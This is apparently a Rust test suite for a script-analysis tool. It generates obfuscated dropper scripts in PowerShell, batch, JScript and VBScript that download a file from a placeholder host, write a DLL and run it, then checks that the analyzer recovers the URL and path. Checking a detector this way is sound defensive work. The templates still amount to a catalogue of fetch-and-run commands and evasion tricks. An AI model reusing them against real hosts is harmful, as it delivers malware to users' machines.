//! Droppers in every style we know, each with many seeds: what they fetch, write and start must come out exactly.

use super::*;

/// Scripts made of one style.
const SEEDS: u64 = 24;

/// Numbers that are the same on every run.
struct Chance(u64);

impl Chance {
    fn below(&mut self, end: u64) -> u64 {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % end
    }

    fn word(&mut self) -> String {
        let len = 4 + self.below(6);
        (0..len).map(|_| char::from(b'a' + u8::try_from(self.below(26)).unwrap())).collect()
    }

    /// The text in pieces of one to five characters.
    fn pieces(&mut self, text: &str) -> Vec<String> {
        let mut out = vec![String::new()];
        for c in text.chars() {
            if self.below(3) == 0 && !out.last().unwrap().is_empty() {
                out.push(String::new());
            }
            out.last_mut().unwrap().push(c);
        }
        out
    }

    /// A marker that is nowhere in the text.
    fn junk(&mut self, text: &str) -> String {
        loop {
            let word = self.word().to_uppercase();
            if !text.contains(&word) {
                return word;
            }
        }
    }
}

/// What a script must turn out to do.
struct Aim {
    url: String,
    path: String,
}

fn aim(chance: &mut Chance) -> Aim {
    let host = ["example", "invalid"][usize::try_from(chance.below(2)).unwrap()];
    Aim {
        url: format!("http://{}.{host}/{}/{}", chance.word(), chance.word(), chance.below(1000)),
        path: format!("C:\\Users\\Public\\{}.dll", chance.word()),
    }
}

/// Every seed of a style must give the URL and the path, and nothing else.
#[track_caller]
fn check(style: &str, extension: &str, make: impl Fn(&mut Chance, &Aim) -> String) {
    for seed in 1..=SEEDS {
        let mut chance = Chance(seed);
        let aim = aim(&mut chance);
        let script = make(&mut chance, &aim);
        let parsed = survey_file(&format!("x.{extension}"), &script, &Limits::desk());
        assert_eq!(parsed.problems, [], "{style} {seed}");
        let commands = &parsed.value.commands;
        let mut urls: Vec<&str> =
            commands.iter().flat_map(|command| &command.urls).map(|url| url.text.as_str()).collect();
        urls.dedup();
        assert_eq!(urls, [aim.url.as_str()], "{style} {seed}: {script}\n{commands:#?}");
        let wrote = commands.iter().flat_map(|command| &command.files).any(|path| *path == aim.path);
        assert!(wrote, "{style} {seed}: {script}\n{commands:#?}");
        assert!(commands.iter().any(|command| command.fetches), "{style} {seed}: {script}");
    }
}

fn codes(text: &str) -> Vec<u32> {
    text.chars().map(u32::from).collect()
}

fn list(items: impl IntoIterator<Item = impl ToString>, with: &str) -> String {
    items.into_iter().map(|item| item.to_string()).collect::<Vec<_>>().join(with)
}

fn reversed(text: &str) -> String {
    text.chars().rev().collect()
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

/// `{2}{0}{1}` and the pieces in the order of their numbers.
fn shuffled(chance: &mut Chance, text: &str) -> (String, Vec<String>) {
    let pieces = chance.pieces(text);
    let mut order: Vec<usize> = (0..pieces.len()).collect();
    for at in (1..order.len()).rev() {
        let other = usize::try_from(chance.below(at as u64 + 1)).unwrap();
        order.swap(at, other);
    }
    let mut placed = vec![String::new(); pieces.len()];
    let mut format = String::new();
    for (piece, place) in pieces.iter().zip(&order) {
        write!(format, "{{{place}}}").unwrap();
        placed[*place].clone_from(piece);
    }
    (format, placed)
}

fn quoted(items: &[String], quote: char) -> String {
    list(items.iter().map(|item| format!("{quote}{item}{quote}")), ",")
}

/// A PowerShell dropper around an expression that gives the URL.
fn fetch_with(url: &str, path: &str) -> String {
    format!("$w=New-Object Net.WebClient;$w.DownloadFile({url},'{path}');Start-Process '{path}'")
}

fn plain(aim: &Aim) -> String {
    fetch_with(&format!("'{}'", aim.url), &aim.path)
}

#[test]
fn powershell_strings() {
    check("format", "ps1", |chance, aim| {
        let (format, pieces) = shuffled(chance, &aim.url);
        fetch_with(&format!("(\"{format}\" -f {})", quoted(&pieces, '\'')), &aim.path)
    });
    check("concatenation", "ps1", |chance, aim| {
        let pieces = chance.pieces(&aim.url);
        fetch_with(&format!("({})", quoted(&pieces, '\'').replace(',', "+")), &aim.path)
    });
    check("variables", "ps1", |chance, aim| {
        let mut out = String::new();
        let mut sum = Vec::new();
        for piece in chance.pieces(&aim.url) {
            let name = chance.word();
            write!(out, "${name}{n}='{piece}';", n = sum.len()).unwrap();
            sum.push(format!("${name}{}", sum.len()));
        }
        out + &fetch_with(&format!("(\"{}\")", list(&sum, "")), &aim.path)
    });
    check("replace", "ps1", |chance, aim| {
        let junk = chance.junk(&aim.url);
        let text = list(chance.pieces(&aim.url), &junk);
        fetch_with(&format!("'{text}'.Replace('{junk}','')"), &aim.path)
    });
    check("replace operator", "ps1", |chance, aim| {
        let junk = chance.junk(&aim.url);
        let text = list(chance.pieces(&aim.url), &junk);
        fetch_with(&format!("('{text}'-creplace'{junk}')"), &aim.path)
    });
    check("split and join", "ps1", |chance, aim| {
        let text = list(chance.pieces(&aim.url), "~");
        fetch_with(&format!("(('{text}').Split([char]126)-join'')"), &aim.path)
    });
    check("reversed by index", "ps1", |_, aim| {
        let text = reversed(&aim.url);
        format!("$r='{text}';") + &fetch_with("($r[-1..-($r.Length)]-join'')", &aim.path)
    });
    check("reversed in place", "ps1", |_, aim| {
        let text = reversed(&aim.url);
        format!("$c='{text}'.ToCharArray();[array]::Reverse($c);") + &fetch_with("(-join $c)", &aim.path)
    });
    check("reversed by pattern", "ps1", |_, aim| {
        let text = reversed(&aim.url);
        fetch_with(&format!("(-join[regex]::Matches('{text}','.','RightToLeft'))"), &aim.path)
    });
    check("ticks", "ps1", |_, aim| {
        format!("$w=nE`w-oB`jeCt N`et.weBc`lieNt;$w.\"do`wnLoa`dfIlE\"('{}','{}')", aim.url, aim.path)
    });
}

#[test]
fn powershell_codes() {
    check("char array", "ps1", |_, aim| {
        fetch_with(&format!("([char[]]({})-join'')", list(codes(&aim.url), ",")), &aim.path)
    });
    check("char casts", "ps1", |_, aim| {
        let sum = list(codes(&aim.url).iter().map(|code| format!("[char]{code:#x}")), "+");
        fetch_with(&format!("([string]{sum})"), &aim.path)
    });
    check("split codes", "ps1", |_, aim| {
        let text = list(codes(&aim.url), "z");
        fetch_with(&format!("(('{text}'-split'z'|%{{[char][int]$_}})-join'')"), &aim.path)
    });
    check("xor", "ps1", |chance, aim| {
        let key = u32::try_from(1 + chance.below(31)).unwrap();
        let text = list(codes(&aim.url).iter().map(|code| code ^ key), ",");
        format!("$s='';foreach($b in @({text})){{$s+=[char]($b -bxor {key})}};")
            + &fetch_with("$s", &aim.path)
    });
    check("hex in a function", "ps1", |_, aim| {
        format!(
            "function d($t){{$o='';for($i=0;$i -lt $t.Length;$i+=2){{\
             $o+=[char][Convert]::ToInt32($t.Substring($i,2),16)}};$o}}\n{}",
            fetch_with(&format!("(d '{}')", hex(&aim.url)), &aim.path)
        )
    });
    check("base64", "ps1", |_, aim| {
        let text = utf8_base64(&aim.url);
        let bytes = format!("[Convert]::FromBase64String('{text}')");
        fetch_with(&format!("([Text.Encoding]::ASCII.GetString({bytes}))"), &aim.path)
    });
    check("shifted in a while", "ps1", |chance, aim| {
        let by = u32::try_from(1 + chance.below(3)).unwrap();
        let text: String = aim.url.chars().filter_map(|c| char::from_u32(u32::from(c) + by)).collect();
        format!("$i=0;$s='';while($i -lt '{text}'.Length){{$s+=[char]([int]'{text}'[$i]-{by});$i++}};")
            + &fetch_with("$s", &aim.path)
    });
}

#[test]
fn powershell_that_runs_text() {
    check("encoded", "ps1", |_, aim| format!("powershell -nop -ec {}", utf16_base64(&plain(aim))));
    check("iex by comspec", "ps1", |_, aim| {
        format!("&($env:ComSpec[4,24,25]-join'')('{}')", plain(aim).replace('\'', "''"))
    });
    check("iex by pshome", "ps1", |_, aim| {
        format!("'{}'|.($PSHome[4]+$PSHome[30]+'x')", plain(aim).replace('\'', "''"))
    });
    check("iex by preference", "ps1", |_, aim| {
        format!("$t='{}';.($VerbosePreference.ToString()[1,3]+'X'-Join'') $t", plain(aim).replace('\'', "''"))
    });
    check("script block", "ps1", |_, aim| {
        format!("&([ScriptBlock]::Create('{}'))", plain(aim).replace('\'', "''"))
    });
    check("three layers", "ps1", |_, aim| {
        let inner = format!("iex '{}'", plain(aim).replace('\'', "''"));
        let middle = format!("powershell -w hidden -e {}", utf16_base64(&inner));
        format!("iex ('{}'.Replace('#','o'))", middle.replace('o', "#"))
    });
}

fn utf8_base64(text: &str) -> String {
    base64_of(text.as_bytes())
}

#[test]
fn batch_files() {
    let curl = |aim: &Aim| format!("curl -s -o {} {}", aim.path, aim.url);
    check("variables", "bat", |chance, aim| {
        let (mut sets, mut uses) = (String::new(), String::new());
        for piece in chance.pieces(&curl(aim)) {
            let name = format!("{}{}", chance.word(), uses.len());
            write!(sets, "set \"{name}={piece}\"\r\n").unwrap();
            write!(uses, "%{name}%").unwrap();
        }
        format!("@echo off\r\n{sets}{uses}\r\n")
    });
    check("carets", "bat", |_, aim| {
        let line: String =
            curl(aim).chars().map(|c| if c == 'l' { "^l".to_owned() } else { c.to_string() }).collect();
        format!("@echo off\r\n{line}\r\n")
    });
    check("alphabet", "bat", |_, aim| {
        let line = curl(aim);
        let alphabet: String = ('!'..='~').filter(|c| !"\"%!^&|<>=".contains(*c)).collect();
        let spelt: String = line
            .chars()
            .map(|c| alphabet.find(c).map_or_else(|| c.to_string(), |at| format!("%k:~{at},1%")))
            .collect();
        format!("@set \"k={alphabet}\"\r\n@{spelt}\r\n")
    });
    check("delayed", "bat", |_, aim| {
        format!(
            "@echo off\r\nsetlocal EnableDelayedExpansion\r\nset u={}\r\nset p={}\r\ncurl -o !p! !u!\r\n",
            aim.url, aim.path
        )
    });
    check("reversed by a loop", "cmd", |_, aim| {
        let text = reversed(&aim.url);
        let last = text.len() - 1;
        format!(
            "cmd /v:on /c \"set r={text}&&for /l %%i in ({last},-1,0) do set u=!u!!r:~%%i,1!&&if %%i==0 curl -o {} !u!\"",
            aim.path
        )
    });
    check("substitution", "bat", |chance, aim| {
        let junk = chance.junk(&curl(aim));
        let text = list(chance.pieces(&curl(aim)), &junk);
        format!("@echo off\r\nset x={text}\r\ncall %x:{junk}=%\r\n")
    });
    check("powershell through a pipe", "bat", |_, aim| {
        format!("@echo iwr {} -OutFile {} | powershell -noprofile -\r\n", aim.url, aim.path)
    });
    check("certutil", "bat", |_, aim| {
        format!(
            "@echo off\r\nset a=cert\r\n%a%util -urlcache -split -f {} {}\r\nrundll32 {},Run\r\n",
            aim.url, aim.path, aim.path
        )
    });
}

/// A JScript dropper around expressions that give the URL.
fn js_with(url: &str, path: &str) -> String {
    let path = path.replace('\\', "\\\\");
    format!(
        "var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET',{url},false);x.send();\
         var s=new ActiveXObject('ADODB.Stream');s.Open();s.Type=1;s.Write(x.responseBody);s.SaveToFile('{path}',2);"
    )
}

#[test]
fn jscript_strings() {
    check("concatenation", "js", |chance, aim| {
        js_with(&quoted(&chance.pieces(&aim.url), '"').replace(',', "+"), &aim.path)
    });
    check("char codes", "js", |_, aim| {
        js_with(&format!("String.fromCharCode({})", list(codes(&aim.url), ",")), &aim.path)
    });
    check("reverse", "js", |_, aim| {
        js_with(&format!("'{}'.split('').reverse().join('')", reversed(&aim.url)), &aim.path)
    });
    check("replace", "js", |chance, aim| {
        let junk = chance.junk(&aim.url);
        let text = list(chance.pieces(&aim.url), &junk);
        js_with(&format!("'{text}'.replace(/{junk}/g,'')"), &aim.path)
    });
    check("unescape", "js", |_, aim| {
        let text: String = aim.url.bytes().map(|byte| format!("%{byte:02x}")).collect();
        js_with(&format!("unescape('{text}')"), &aim.path)
    });
    check("hex loop", "js", |_, aim| {
        format!(
            "function d(t){{var o='';for(var i=0;i<t.length;i+=2)o+=String.fromCharCode(parseInt(t.substr(i,2),16));return o}}{}",
            js_with(&format!("d('{}')", hex(&aim.url)), &aim.path)
        )
    });
    check("xor loop", "js", |chance, aim| {
        let key = u32::try_from(1 + chance.below(31)).unwrap();
        let text = list(codes(&aim.url).iter().map(|code| code ^ key), ",");
        format!("var a=[{text}],u='';for(var i in a){{u+=String.fromCharCode(a[i]^{key})}}")
            + &js_with("u", &aim.path)
    });
    check("array of pieces", "js", |chance, aim| {
        let (format, pieces) = shuffled(chance, &aim.url);
        let sum = format.replace("}{", "]+a[").replace('{', "a[").replace('}', "]");
        format!("var a=[{}];", quoted(&pieces, '\'')) + &js_with(&format!("({sum})"), &aim.path)
    });
}

#[test]
fn jscript_that_runs_text() {
    let escaped = |text: &str| text.replace('\\', "\\\\").replace('\'', "\\'");
    check("eval", "js", |_, aim| {
        format!("eval('{}')", escaped(&js_with(&format!("'{}'", aim.url), &aim.path)))
    });
    check("function constructor", "js", |_, aim| {
        format!("new Function('{}')()", escaped(&js_with(&format!("'{}'", aim.url), &aim.path)))
    });
    check("called through this", "js", |_, aim| {
        format!("this['ev'+'al'](unescape('{}'))", percent(&js_with(&format!("'{}'", aim.url), &aim.path)))
    });
    check("wsf", "wsf", |_, aim| {
        let script = js_with(&format!("'{}'", aim.url), &aim.path);
        format!("<job><script language=\"JScript\"><![CDATA[\n{script}\n]]></script></job>")
    });
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// A VBScript dropper around an expression that gives the URL.
fn vbs_with(url: &str, path: &str) -> String {
    format!(
        "Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", {url}, False\r\nx.Send\r\n\
         With CreateObject(\"ADODB.Stream\")\r\n.Type = 1 : .Open : .Write x.responseBody\r\n\
         .SaveToFile \"{path}\", 2\r\nEnd With\r\n"
    )
}

#[test]
fn vbscript_strings() {
    check("concatenation", "vbs", |chance, aim| {
        vbs_with(&list(chance.pieces(&aim.url).iter().map(|piece| format!("\"{piece}\"")), " & "), &aim.path)
    });
    check("chr", "vbs", |_, aim| {
        vbs_with(&list(codes(&aim.url).iter().map(|code| format!("Chr(&H{code:X})")), "&"), &aim.path)
    });
    check("reverse", "vbs", |_, aim| vbs_with(&format!("StrReverse(\"{}\")", reversed(&aim.url)), &aim.path));
    check("replace", "vbs", |chance, aim| {
        let junk = chance.junk(&aim.url);
        let text = list(chance.pieces(&aim.url), &junk);
        vbs_with(&format!("Replace(\"{text}\", \"{junk}\", \"\")"), &aim.path)
    });
    check("split and join", "vbs", |chance, aim| {
        let text = list(chance.pieces(&aim.url), "~");
        vbs_with(&format!("Join(Split(\"{text}\", \"~\"), \"\")"), &aim.path)
    });
    check("array loop", "vbs", |_, aim| {
        format!(
            "a = Array({})\r\nFor Each c In a\r\nu = u & ChrW(c)\r\nNext\r\n{}",
            list(codes(&aim.url), ","),
            vbs_with("u", &aim.path)
        )
    });
    check("hex in a function", "vbs", |_, aim| {
        format!(
            "Function d(t)\r\nDim i\r\nFor i = 1 To Len(t) Step 2\r\nd = d & Chr(\"&H\" & Mid(t, i, 2))\r\nNext\r\n\
             End Function\r\n{}",
            vbs_with(&format!("d(\"{}\")", hex(&aim.url)), &aim.path)
        )
    });
    check("xor in a do loop", "vbs", |chance, aim| {
        let key = u32::try_from(1 + chance.below(31)).unwrap();
        let text = list(codes(&aim.url).iter().map(|code| code ^ key), " ");
        format!(
            "a = Split(\"{text}\")\r\nDo Until i > UBound(a)\r\nu = u + Chr(a(i) Xor {key}) : i = i + 1\r\nLoop\r\n{}",
            vbs_with("u", &aim.path)
        )
    });
    check("a parameter that comes back", "vbs", |_, aim| {
        format!(
            "Sub turn(t)\r\nt = StrReverse(t)\r\nEnd Sub\r\nu = \"{}\"\r\nturn u\r\n{}",
            reversed(&aim.url),
            vbs_with("u", &aim.path)
        )
    });
}

#[test]
fn vbscript_that_runs_text() {
    let literal =
        |text: &str| format!("\"{}\"", text.replace('"', "\"\"").replace("\r\n", "\" & vbCrLf & \""));
    let script = |aim: &Aim| vbs_with(&format!("\"{}\"", aim.url), &aim.path);
    check("execute", "vbs", |_, aim| format!("Execute {}", literal(&script(aim))));
    check("executeglobal", "vbs", |_, aim| format!("ExecuteGlobal({})", literal(&script(aim))));
    check("codes of a script", "vbs", |_, aim| {
        format!(
            "For Each c In Split(\"{}\", \",\") : s = s & Chr(c) : Next : Execute s",
            list(codes(&script(aim)), ",")
        )
    });
    check("hta", "hta", |_, aim| {
        format!("<html><script language=\"VBScript\">\r\n{}</script></html>", script(aim))
    });
}
